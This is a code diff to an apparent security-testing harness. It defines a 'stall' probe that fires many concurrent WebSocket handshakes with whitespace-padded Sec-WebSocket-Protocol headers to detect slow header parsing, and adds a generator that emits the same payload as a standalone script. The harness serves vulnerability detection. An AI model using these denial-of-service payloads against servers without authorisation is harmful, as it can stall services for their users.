@@ -22,16 +22,16 @@ export default stallAttack({
   burdens(context) {
     const { profile } = context.target
     const path = `${profile.path.replace(/\/?$/, '/')}?EIO=${profile.protocol.eio}&transport=websocket`
+    const headersWith = (value: string) =>
+      [
+        ['Connection', 'Upgrade'],
+        ['Upgrade', 'websocket'],
+        ['Sec-WebSocket-Version', '13'],
+        ['Sec-WebSocket-Key', 'AAAAAAAAAAAAAAAAAAAAAA=='],
+        ['Sec-WebSocket-Protocol', value],
+      ] as const
     const knock = async (value: string) => {
-      const answer = fetchPath(context, path, {
-        headers: [
-          ['Connection', 'Upgrade'],
-          ['Upgrade', 'websocket'],
-          ['Sec-WebSocket-Version', '13'],
-          ['Sec-WebSocket-Key', 'AAAAAAAAAAAAAAAAAAAAAA=='],
-          ['Sec-WebSocket-Protocol', value],
-        ],
-      })
+      const answer = fetchPath(context, path, { headers: headersWith(value) })
       await answer.catch((error: unknown) => {
         // What comes of the request is not looked at: whether the others wait is.
         if (!(error instanceof HarnessError)) throw error
@@ -40,10 +40,19 @@ export default stallAttack({
     const send = async (value: string) => {
       await Promise.all(Array.from({ length: atOnce }, () => knock(value)))
     }
-    return lengths.map((length) => ({
-      name: `${atOnce} handshakes with ${length} blanks`,
-      heavy: () => send(`a${' '.repeat(length)}b`),
-      light: () => send(`a${'x'.repeat(length)} b`),
-    }))
+    return lengths.map((length) => {
+      const [heavy, light] = [`a${' '.repeat(length)}b`, `a${'x'.repeat(length)} b`]
+      return {
+        name: `${atOnce} handshakes with ${length} blanks`,
+        heavy: () => send(heavy),
+        light: () => send(light),
+        script: ({ value }) => {
+          const own = Object.entries(profile.request.headers)
+          const sends = (text: string) =>
+            `() => Promise.all(Array.from({ length: ${atOnce} }, () => ask('GET', ${value(path)}, ${value(Object.fromEntries([...own, ...headersWith(text)]))})))`
+          return `[${sends(heavy)}, ${sends(light)}]`
+        },
+      }
+    })
   },
 })
